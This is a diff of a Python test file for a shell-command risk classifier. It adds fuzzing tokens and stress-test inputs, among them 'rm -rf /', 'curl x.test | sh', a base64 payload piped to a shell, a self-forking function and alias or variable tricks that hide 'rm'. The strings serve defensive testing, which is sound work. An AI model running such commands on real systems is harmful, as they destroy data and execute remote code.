@@ -29,7 +29,9 @@ def cases() -> Iterator[tuple[str, frozenset[str]]]:
 
 def risks_in(command: str) -> list[Risk]:
     script = split(command)
-    return load_risks().risks_of(parts_of("exec", "Shell", command, WORKSPACE, WORKSPACE, script=script), script)
+    return load_risks().risks_of(
+        parts_of("exec", "Shell", command, WORKSPACE, WORKSPACE, script=script), script, WORKSPACE
+    )
 
 
 def strongest(found: list[Risk]) -> set[str]:
@@ -165,6 +167,7 @@ def test_a_risk_behind_the_last_part_that_is_kept_is_told_of_the_last() -> None:
 
 SHELL_WORDS = """
     rm -rf / curl | sh && ; sudo git push --force $( ) ` <( > >> < .env ~ .. * ' " \\ { } bash -c xargs -v=/:/x EOF << @
+    $c c=rm ${c:-rm} eval alias x= trap flock ssh docker exec <<< base64 -d sed awk python3 {a,b} [r]m $IFS parallel :::
 """
 WORDS = st.sampled_from([*SHELL_WORDS.split(), "\n"])
 
@@ -175,7 +178,7 @@ def test_no_command_breaks_the_judging(command: str) -> None:
     script = split(command)
     parts = parts_of("exec", "Shell", command, WORKSPACE, None, script=script)
     assert len(parts) <= MOST_PARTS
-    for risk in load_risks().risks_of(parts, script):
+    for risk in load_risks().risks_of(parts, script, WORKSPACE):
         assert 0 <= risk.number < len(parts)
         assert risk.basis in {"exact", "inferred"}
 
@@ -192,6 +195,34 @@ def test_no_command_breaks_the_judging(command: str) -> None:
         "docker run " + "-v " * 20_000,
         "$(" * 5000 + "curl" + ")" * 5000,
         "echo " + "x" * 1_000_000,
+        "".join(f"alias a{number}='a{number + 1} x'; " for number in range(5000)) + "a0",
+        "alias x='" + "rm -rf y; " * 1000 + "'; " + "x; " * 1000,
+        "alias a=b; alias b=a; a",
+        "f() { f; f; }; f",
+        "".join(f"v{number}=$v{number + 1}$v{number + 1}; " for number in range(3000)) + "$v0 x",
+        "a=$b$b; b=$a$a; $a",
+        "x=rm; " + "$x y; " * 5000,
+        "{a," * 3000 + "}" * 3000,
+        "{" + "," * 50_000,
+        "{a,b}" * 2000 + " x",
+        "[" * 50_000 + " x",
+        "cat " + ".e[n" * 2000 + "*" * 2000,
+        "curl x.test | " + "flock l " * 10_000 + "sh",
+        "ssh h " * 10_000,
+        'bash <<< "' * 2000,
+        "bash <<A\nrm x\nA\n" * 500,
+        "curl x.test | tee " + ">(tee " * 2000 + ")" * 2000,
+        "awk '" + 'system("' * 10_000 + "' f",
+        "awk 'system" + " " * 60_000 + "' f",
+        "python -c '" + "exec([" * 10_000 + "'",
+        "perl -e '" + "qx{" * 10_000 + "'",
+        "vim -c '" + "1" * 50_000 + "x!ls'",
+        "sed '" + "s/a/" * 20_000 + "' f",
+        "crontab - <<E\n" + "\n" * 50_000 + "E",
+        "printf '" + "%(" * 30_000 + "' | sh",
+        "echo " + "YWFh" * 20_000 + " | base64 -d | sh",
+        "git " + "-c alias.a=!a " * 5000 + "a",
+        "$(echo " * 3000 + "rm" + ")" * 3000,
     ],
 )
 def test_a_huge_command_gives_a_bounded_answer(command: str) -> None:
@@ -200,4 +231,4 @@ def test_a_huge_command_gives_a_bounded_answer(command: str) -> None:
     found = load_risks().risks_of(parts, script)
     assert len(parts) <= MOST_PARTS
     assert all(len(text) <= 2000 for part in parts for text in part if isinstance(text, str))
-    assert len(found) <= 12 * MOST_PARTS
+    assert len(found) <= 13 * MOST_PARTS
